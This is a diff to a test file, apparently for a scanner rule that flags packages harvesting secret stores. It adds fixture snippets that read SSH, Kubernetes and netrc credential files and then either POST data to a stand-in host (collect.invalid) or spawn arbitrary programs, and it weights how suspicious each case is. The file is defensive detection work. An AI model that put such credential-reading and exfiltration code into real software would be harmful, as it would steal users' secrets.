@@ -19,11 +19,25 @@ examine(harvestsSecretStores, {
       weight: 'proof',
     },
     {
-      when: 'when it is called',
+      when: 'when it is called, and it can send',
       files: {
-        'index.js': `${CP} exports.x = () => { const h = os.homedir(); fs.readdirSync(h + '/.ssh'); fs.readFileSync(h + '/.kube/config'); fs.readFileSync(h + '/.netrc') }`,
+        'index.js': `${CP} exports.x = () => { const h = os.homedir(); fs.readdirSync(h + '/.ssh'); fs.readFileSync(h + '/.kube/config'); fs.readFileSync(h + '/.netrc') }; exports.y = text => fetch('https://collect.invalid/', { method: 'POST', body: text })`,
       },
       weight: 'strong',
+    },
+    {
+      when: 'when it is called, and a program that it starts may be any',
+      files: {
+        'index.js': `${CP} exports.x = () => { const h = os.homedir(); fs.readdirSync(h + '/.ssh'); fs.readFileSync(h + '/.kube/config'); fs.readFileSync(h + '/.netrc') }; exports.y = (a, b) => cp.spawn(a, b)`,
+      },
+      weight: 'strong',
+    },
+    {
+      when: 'when it is called, with no way for anything to leave the machine',
+      files: {
+        'index.js': `${CP} exports.x = () => { const h = os.homedir(); fs.readdirSync(h + '/.ssh'); fs.readFileSync(h + '/.kube/config'); fs.readFileSync(h + '/.netrc') }; exports.y = () => cp.spawnSync('git', ['ls-files'])`,
+      },
+      weight: 'weak',
     },
   ],
   silent: [
